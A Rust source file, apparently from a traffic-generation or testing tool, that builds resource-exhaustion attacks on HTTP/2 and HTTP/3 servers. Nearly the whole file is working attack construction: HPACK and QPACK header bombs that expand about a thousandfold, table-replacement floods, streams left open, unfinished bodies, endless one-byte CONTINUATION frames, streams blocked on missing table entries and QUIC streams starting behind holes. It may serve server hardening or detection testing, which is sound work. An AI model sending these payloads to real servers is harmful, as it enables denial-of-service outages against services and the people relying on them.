//! HTTP/2 and HTTP/3 made to exhaust whoever keeps their tables and streams: header blocks that unpack to a thousand times their size,
//! streams without end, blocks without end.

use super::attacks::{Attack, Frames, attack, stream};
use super::headers::{CLIENT, SERVER, datagram, ethernet, ip, udp};
use super::sealed::{self, Opened};

/// Bytes of the entry that bombs refer to: the largest that a table of 4 kB has room for.
const ENTRY: usize = 4_000;

pub fn attacks() -> Vec<Attack> {
    let entry = [&[0x40, 1, b'a'][..], &length(ENTRY, 0x7f, 0), &[b'a'; ENTRY]].concat();
    let request = [0x82, 0x84, 0x86];
    let id = |it: u64| it as u32 * 2 + 3;
    let (references, inserts) = ([&request[..], &[0xbe; 4_000]].concat(), entry.clone());
    vec![
        attack("http2.bomb", 4_000, "header blocks of 4000 references to 4 kB", move |n| {
            let references = references.clone();
            http2(
                frame(1, 4, 1, &[&request[..], &entry].concat()),
                move |it| frame(1, 4, id(it), &references),
                n,
            )
        }),
        attack("http2.table", 20_000, "header blocks that replace the whole table", move |n| {
            let inserts = inserts.clone();
            http2(Vec::new(), move |it| frame(1, 4, id(it), &[&request[..], &inserts].concat()), n)
        }),
        attack("http2.streams", 400_000, "streams that are never closed", move |n| {
            http2(Vec::new(), move |it| frame(1, 4, id(it), &request), n)
        }),
        attack("http2.bodies", 200_000, "streams with a body that is not whole", move |n| {
            http2(
                Vec::new(),
                move |it| [frame(1, 4, id(it), &request), frame(0, 0, id(it), b"{\"a\":1")].concat(),
                n,
            )
        }),
        attack(
            "http2.continuations",
            1_000_000,
            "continuations of one block, of a byte",
            move |n| http2(frame(1, 0, 1, &request), |_| frame(9, 0, 1, b"\x84"), n),
        ),
        http3("http3.bomb", 20_000, "header blocks of 1000 references to 4 kB", |_, it| {
            // The required insert count is 1, and every line is the newest entry (RFC 9204 section 4.5).
            let block = [&[2, 0][..], &[0x80; 1_000]].concat();
            vec![(it * 4, 0, headers(&block))]
        }),
        http3("http3.table", 50_000, "inserts of 1000 bytes", |_, it| {
            let insert = [&[0x41, b'a'][..], &length(1_000, 0x7f, 0), &[b'a'; 1_000]].concat();
            vec![(2, OPENING + ENTRY as u64 - 100 + it * insert.len() as u64, insert)]
        }),
        http3("http3.streams", 200_000, "streams that are never closed", |_, it| {
            vec![(it * 4, 0, headers(&[0, 0, 0xd1, 0xd7, 0xc1]))]
        }),
        http3(
            "http3.blocked",
            100_000,
            "streams that wait for an entry that never comes",
            |_, it| vec![(it * 4, 0, headers(&[3, 0, 0x80]))],
        ),
        http3("http3.holes", 100_000, "streams that begin behind a hole", |_, it| {
            vec![(it * 4, 10, b"behind a hole".to_vec())]
        }),
    ]
}

/// A body in these codings, over and over.
pub fn compressed(name: &str, full: u64, of: &'static str, coding: &str, body: Vec<u8>) -> Attack {
    // POST / with a `content-encoding` that is not indexed (RFC 7541 section 6.2.2: entry 26).
    let block = [
        &[0x83, 0x84, 0x86, 0x0f, 0x0b][..],
        &length(coding.len(), 0x7f, 0),
        coding.as_bytes(),
    ]
    .concat();
    attack(name, full, of, move |n| {
        let (block, body) = (block.clone(), body.clone());
        let request = move |it: u64| {
            let id = it as u32 * 2 + 1;
            [frame(1, 4, id, &block), frame(0, 1, id, &body)].concat()
        };
        http2(Vec::new(), request, n)
    })
}

/// In clear, with prior knowledge (RFC 9113 section 3.3).
fn http2(first: Vec<u8>, again: impl Fn(u64) -> Vec<u8> + 'static, n: u64) -> Frames {
    let preface = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, b""), &first].concat();
    let mut at = 0;
    let said = std::iter::once(preface)
        .chain((0..n).map(again))
        .flat_map(|it| it.chunks(1_400).map(<[u8]>::to_vec).collect::<Vec<_>>());
    stream(
        80,
        said.map(move |bytes| {
            let place = at;
            at += bytes.len() as u64;
            (place, bytes)
        }),
    )
}

/// Bytes of the encoder's stream before the entry: its type, the capacity, the name and the length of the value.
const OPENING: u64 = 1 + 3 + 2 + 3;

/// An attack by the client over QUIC, to which the key log is known: by number, what goes where in which stream.
fn http3(name: &str, full: u64, of: &'static str, said: impl Fn(u64, u64) -> Vec<(u64, u64, Vec<u8>)> + Clone + 'static) -> Attack {
    let session = std::rc::Rc::new(Opened::new("a.example"));
    let opened = session.clone();
    let mut it = attack(name, full, of, move |n| {
        let [asked, answered] = session.hellos.clone();
        let (session, said) = (session.clone(), said.clone());
        // The server's settings let the client have a table of 4 kB (RFC 9204 section 5).
        let settings = sealed::stream(3, 0, &[0, 4, 3, 1, 0x50, 0]);
        let value = length(ENTRY - 100, 0x7f, 0);
        let encoder = [&[2, 0x3f, 0xe1, 0x1f, 0x41, b'a'][..], &value, &vec![b'a'; ENTRY - 100]].concat();
        let table: Vec<_> = encoder
            .chunks(1_100)
            .zip((0..).step_by(1_100))
            .map(|(piece, at)| sealed::stream(2, at, piece))
            .collect();
        let client = table.into_iter().chain((0..n).flat_map(move |it| {
            said(n, it).into_iter().flat_map(|(stream, at, bytes)| {
                let pieces: Vec<_> = bytes
                    .chunks(1_100)
                    .zip((at..).step_by(1_100))
                    .map(|(piece, at)| sealed::stream(stream, at, piece))
                    .collect();
                pieces
            })
        }));
        let first = [
            from_client(&asked),
            from_server(&answered),
            from_server(&session.server.short(&[], 0, &settings)),
        ];
        first.into_iter().chain(
            (0..)
                .zip(client)
                .map(move |(number, frames)| from_client(&session.client.short(&[], number, &frames))),
        )
    });
    it.keylog = Box::new(move |_| Box::new(std::io::Cursor::new(opened.keylog.join("\n").into_bytes())));
    it
}

fn from_client(packet: &[u8]) -> Vec<u8> {
    datagram(CLIENT, (50_000, 443), packet)
}

fn from_server(packet: &[u8]) -> Vec<u8> {
    ethernet(0x0800, &ip(SERVER, CLIENT, 17, (7, 0), &udp(443, 50_000, packet)))
}

/// A HEADERS frame of HTTP/3.
fn headers(block: &[u8]) -> Vec<u8> {
    [&[1][..], &(block.len() as u16 | 0x4000).to_be_bytes(), block].concat()
}

/// A frame of HTTP/2 (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (body.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), body].concat()
}

/// A number behind a prefix of bits that are all set when it does not fit (RFC 7541 section 5.1).
fn length(number: usize, prefix: u8, with: u8) -> Vec<u8> {
    let Some(mut rest) = number.checked_sub(usize::from(prefix)) else {
        return vec![with | number as u8];
    };
    let mut bytes = vec![with | prefix];
    while rest >= 128 {
        bytes.push(rest as u8 | 0x80);
        rest >>= 7;
    }
    bytes.push(rest as u8);
    bytes
}
